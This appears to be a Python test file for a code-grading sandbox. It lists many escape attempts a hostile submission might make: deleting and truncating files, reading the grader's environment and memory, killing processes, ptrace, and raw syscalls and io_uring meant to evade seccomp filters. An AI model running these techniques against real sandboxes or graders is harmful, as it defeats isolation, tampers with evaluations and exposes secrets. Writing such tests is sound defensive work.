"""What a hostile hand-in tries.  This file is pasted into one and a function called there; what it returns is its loot.

An attack that fails returns nothing or raises. `secret` is a file that it should not read or change, `folder` one in
which it should not leave anything, `victim` the number of a process that it should not disturb, and `port` one at
which nobody should hear from it.
"""

from __future__ import annotations

import ctypes
import gc
import importlib.machinery
import os
import platform
import signal
import socket
import stat
import struct
import sys
import threading
import time
from collections.abc import Callable
from typing import Any

import numpy as np

secret, folder, victim, port = "", "", 0, 0  # each hand-in sets its own
ATTACKS: dict[str, Callable[..., Any]] = {}


def attack(function: Callable[..., Any]) -> Callable[..., Any]:
    ATTACKS[function.__name__] = function
    return function


# ----------------------------------------------------------------------------------------------------- writing files


@attack
def open_for_writing():
    return open(folder + "/mark", "w")


@attack
def append():
    return open(secret, "a").write("more")


@attack
def truncate_by_reading():
    os.open(secret, os.O_RDONLY | os.O_TRUNC)
    return os.path.getsize(secret) == 0


@attack
def truncate():
    os.truncate(secret, 0)
    return True


@attack
def file_without_a_name():
    return os.write(os.open(folder, os.O_TMPFILE | os.O_RDWR), b"mark")


@attack
def file_in_memory():
    return os.write(os.memfd_create("mark"), b"mark")


@attack
def write_through_numpy():
    np.save(folder + "/mark", np.ones(3))
    return True


@attack
def write_through_a_map():
    return np.memmap(secret, np.uint8, "r+")[:1].tolist()


@attack
def write_through_the_c_library():
    libc = ctypes.CDLL(None)
    libc.fopen.restype = ctypes.c_void_p
    return libc.fopen((folder + "/mark").encode(), b"w")


@attack
def write_through_sqlite():
    import sqlite3

    sqlite3.connect(folder + "/mark").execute("create table t (x)")
    return True


@attack
def write_through_readline():
    import readline

    readline.write_history_file(folder + "/mark")
    return True


@attack
def make_a_folder():
    os.mkdir(folder + "/mark")
    return True


@attack
def make_a_pipe():
    os.mkfifo(folder + "/mark")
    return True


@attack
def make_links():
    try:
        os.symlink(secret, folder + "/mark")
    except OSError:
        os.link(secret, folder + "/mark")
    return True


@attack
def remove():
    os.remove(secret)
    return True


@attack
def rename():
    os.rename(secret, folder + "/mark")
    return True


@attack
def change_permissions_and_times():
    try:
        os.chmod(secret, 0o777)
    except OSError:
        os.utime(secret, (0, 0))
    return True


@attack
def change_the_checks():
    checks = os.path.dirname(sys.modules["worker"].__file__) + "/checking.py"
    return open(checks, "a")


# ----------------------------------------------------------------------------------------------------- reading files


@attack
def read_a_classmates_file():
    return open(secret).read()


@attack
def read_through_numpy():
    return np.fromfile(secret, np.uint8).tobytes()


@attack
def read_through_the_c_library():
    libc = ctypes.CDLL(None)
    return libc.open(secret.encode(), 0) >= 0


@attack
def read_by_a_raw_call():
    """openat2, whose flags lie in memory, where no filter can look."""
    libc = ctypes.CDLL(None)
    return libc.syscall(437, -100, secret.encode(), bytes(24), 24) >= 0


@attack
def read_the_references():
    exercises = os.path.dirname(sys.modules["worker"].__file__)
    return open(exercises + "/catalogue/ex01_linear_backward.py").read()


@attack
def import_the_references():
    sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.dirname(sys.modules["worker"].__file__))))
    sys.meta_path.pop()
    from minilora.exercises import catalogue

    return catalogue


@attack
def import_a_file_from_elsewhere():
    return importlib.machinery.SourceFileLoader("secret", secret).get_data(secret)


@attack
def list_a_folder():
    return os.listdir(os.path.dirname(secret))


@attack
def search_the_machine():
    for place in ("/", "/etc", "/home", "/root", "/tmp", os.path.expanduser("~")):
        for _, folders, files in os.walk(place):
            if folders or files:
                return folders + files


@attack
def read_the_graders_environment():
    return open(f"/proc/{os.getppid()}/environ").read()


@attack
def read_the_graders_memory():
    return open(f"/proc/{os.getppid()}/mem", "rb")


@attack
def read_its_own_memory_map():
    return open("/proc/self/maps").read()


@attack
def look_for_secrets_in_the_environment():
    return os.environ.get("A_TEACHERS_PASSWORD")


@attack
def look_for_the_answers_in_memory():
    return [each for each in gc.get_objects() if type(each).__name__ in ("Exercise", "Verdict", "Broken", "Sandbox")]


@attack
def look_for_open_files():
    """Anything open besides the two pipes, stdin, stdout and stderr."""
    modes = []
    for number in range(200):
        try:
            modes.append(os.fstat(number).st_mode)
        except OSError:
            continue
    return [mode for mode in modes if not stat.S_ISFIFO(mode) and not stat.S_ISCHR(mode)]


# --------------------------------------------------------------------------------------------------------- processes


@attack
def fork():
    if os.fork() == 0:
        os._exit(0)
    return True


@attack
def leave_a_process_behind():
    if os.fork() == 0:
        os.setsid()
        time.sleep(0.2)
        open(folder + "/mark", "w").close()
        os._exit(0)
    return True


@attack
def fork_by_a_raw_call():
    number = {"x86_64": 56, "aarch64": 220}[platform.machine()]  # clone
    child = ctypes.CDLL(None).syscall(number, 17, 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    return child > 0


@attack
def thread():
    threading.Thread(target=print).start()
    return True


@attack
def shell():
    return os.system(f"touch '{folder}/mark'") == 0


@attack
def subprocess_module():
    import subprocess

    return subprocess.run(["true"])


@attack
def the_c_function_below_subprocess():
    from multiprocessing import util

    return util.spawnv_passfds(b"/bin/true", [b"true"], [])  # _posixsubprocess.fork_exec, without subprocess


@attack
def spawn():
    return os.posix_spawn("/bin/true", ["true"], {})


@attack
def become_another_program():
    print("SUCCEEDED, unless an error follows")
    try:
        os.execv("/bin/true", ["true"])
    except OSError:
        print("FAILED AFTER ALL")
        raise


# ----------------------------------------------------------------------------------------------------------- signals


@attack
def kill():
    os.kill(victim, 9)
    return True


@attack
def kill_by_a_handle():
    signal.pidfd_send_signal(os.pidfd_open(victim), 9)
    return True


@attack
def kill_through_the_c_library():
    return ctypes.CDLL(None).kill(victim, 9) == 0


@attack
def kill_by_a_file_event():
    """The kernel sends SIGIO, here replaced by SIGKILL, to the owner of a pipe when it becomes readable."""
    import fcntl

    reading, writing = os.pipe()
    fcntl.fcntl(reading, fcntl.F_SETOWN, victim)
    fcntl.fcntl(reading, 10, 9)  # F_SETSIG
    fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)
    os.write(writing, b"x")
    time.sleep(0.1)
    return True


@attack
def stop_the_grader():
    os.kill(os.getppid(), 0)  # it could be any number
    return True


@attack
def trace_another_process():
    return ctypes.CDLL(None).ptrace(16, victim, 0, 0) == 0  # PTRACE_ATTACH


@attack
def read_another_processs_memory():
    number = {"x86_64": 310, "aarch64": 270}[platform.machine()]
    target = ctypes.create_string_buffer(8)
    local = struct.pack("PN", ctypes.addressof(target), 8)
    with open(f"/proc/{os.getppid()}/maps") as maps:
        address = int(maps.read().partition("-")[0], 16)
    return ctypes.CDLL(None).syscall(number, os.getppid(), local, 1, struct.pack("PN", address, 8), 1, 0) == 8


# ----------------------------------------------------------------------------------------------------------- network


@attack
def call_home():
    return socket.create_connection(("127.0.0.1", port))


@attack
def send_a_datagram():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"loot", ("127.0.0.1", port))


@attack
def look_up_a_name():
    return socket.getaddrinfo("localhost", port)


@attack
def local_socket():
    return socket.socket(socket.AF_UNIX)


@attack
def socket_by_the_c_library():
    return ctypes.CDLL(None).socket(2, 1, 0) >= 0


# ------------------------------------------------------------------------------------------------- the kernel's rest


@attack
def take_the_limits_off():
    import resource

    resource.setrlimit(resource.RLIMIT_CPU, (1, 2))
    return True


@attack
def a_namespace_of_its_own():
    return ctypes.CDLL(None).unshare(0x10000000) == 0


@attack
def keep_something_in_the_kernels_keyring():
    number = {"x86_64": 248, "aarch64": 217}[platform.machine()]
    return ctypes.CDLL(None).syscall(number, b"user", b"mark", b"loot", 4, -4) > 0


@attack
def keep_something_in_shared_memory():
    libc = ctypes.CDLL(None)
    segment = libc.shmget(0, 4096, 0o1600)
    if segment >= 0:
        libc.shmctl(segment, 0, None)  # remove it again
    return segment >= 0


@attack
def rings_of_calls():
    """io_uring runs calls that no filter sees."""
    return ctypes.CDLL(None).syscall(425, 4, bytes(120)) >= 0


@attack
def another_instruction_set():
    """getpid's number on 32 bits is writev's on 64: `int 0x80` makes the call of 32 bits."""
    import mmap

    if platform.machine() != "x86_64":
        return None
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(bytes.fromhex("b814000000 cd80 c3"))  # mov eax, 20; int 0x80; ret
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))() > 0


@attack
def another_numbering():
    """x32: the numbers of 64 bits plus 2^30 mean the same calls where a kernel has it."""
    return ctypes.CDLL(None).syscall(0x40000000 + 39) > 0
